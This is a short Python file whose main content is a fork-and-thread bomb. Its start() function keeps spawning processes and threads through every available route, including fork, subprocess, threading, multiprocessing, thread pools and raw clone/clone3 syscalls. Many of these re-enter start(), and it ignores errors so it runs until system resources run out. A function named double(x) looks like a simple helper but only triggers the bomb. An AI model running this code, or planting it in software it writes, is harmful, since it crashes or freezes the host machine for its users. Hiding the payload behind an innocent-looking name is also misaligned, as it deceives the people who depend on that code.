"""Starts threads and processes until none are left, by every way of starting one."""
# %%
import _thread, concurrent.futures, ctypes, multiprocessing, os, subprocess, threading
def start():
    ways = [os.fork, os.forkpty, lambda: subprocess.Popen(["/bin/true"]), lambda: threading.Thread(target=start).start(),
            lambda: _thread.start_new_thread(start, ()), lambda: os.posix_spawn("/bin/true", ["true"], {}),
            lambda: multiprocessing.get_context("fork").Process(target=start).start(),
            lambda: concurrent.futures.ThreadPoolExecutor(64).submit(start), lambda: ctypes.CDLL(None).fork(),
            lambda: ctypes.CDLL(None).syscall(435, 0, 0), lambda: ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0)]
    for way in ways:
        for _ in range(20):
            try:
                way()
            except BaseException:
                break
    return 0
def double(x): return start()
